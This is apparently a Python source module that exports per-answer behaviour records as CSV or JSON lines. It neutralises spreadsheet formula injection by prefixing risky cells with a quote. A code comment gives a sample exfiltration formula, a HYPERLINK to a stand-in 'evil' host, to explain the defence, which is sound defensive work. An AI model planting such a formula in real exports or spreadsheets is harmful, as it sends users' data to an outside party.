"""The records export: one row per answer, as CSV or JSON lines, for the CLI, the chat and
the dashboard's download."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Iterator
from datetime import UTC, date, datetime, time
from typing import IO, Any

from sqlalchemy.orm import Session

from bot.core.catalog import Catalog
from bot.reports.records import record_rows
from bot.reports.scope import Scope

COLUMNS = (
    "recorded_at",
    "leader",
    "role",
    "team",
    "behavior_id",
    "behavior_title",
    "outcome",
    "note",
    "barrier",
    "barrier_private",
    "shared",
    "source",
    "platform",
)


def export_rows(
    session: Session,
    catalog: Catalog,
    *,
    workspace_id: int | None = None,
    since: date | None = None,
) -> Iterator[dict[str, Any]]:
    """Every record (from `since`, in one workspace if given), oldest first."""
    return record_rows(
        session,
        catalog,
        Scope(workspace_id=workspace_id),
        since=datetime.combine(since, time(), tzinfo=UTC) if since is not None else None,
    )


# A spreadsheet runs a cell that starts with one of these as a formula: a note such as
# =HYPERLINK("http://evil","x") would send the sheet's contents away when clicked, and DDE
# formulas can start programs. OWASP's advice: write such a cell as text, behind a single quote.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def as_text(cell: Any) -> Any:
    """A cell a spreadsheet will show rather than run."""
    if isinstance(cell, str) and cell.startswith(FORMULA_START):
        return "'" + cell
    return cell


def write_csv(rows: Iterable[dict[str, Any]], out: IO[str]) -> int:
    """Every export's CSV (the CLI's, the chat's and the dashboard's): spreadsheets open it, so
    each text cell that would start a formula is written as text (see FORMULA_START)."""
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    count = 0
    for row in rows:
        cells = {
            **row,
            "shared": "yes" if row["shared"] else "no",
            "barrier_private": "yes" if row["barrier_private"] else "no",
        }
        writer.writerow({name: as_text(cell) for name, cell in cells.items()})
        count += 1
    return count


def write_jsonl(rows: Iterable[dict[str, Any]], out: IO[str]) -> int:
    """JSON lines, every value exactly as recorded: not a spreadsheet format, so nothing in it
    is a formula, and programs reading it get the real text."""
    count = 0
    for row in rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")
        count += 1
    return count


def csv_bytes(rows: Iterable[dict[str, Any]]) -> tuple[bytes, int]:
    buffer = io.StringIO()
    count = write_csv(rows, buffer)
    return buffer.getvalue().encode("utf-8"), count
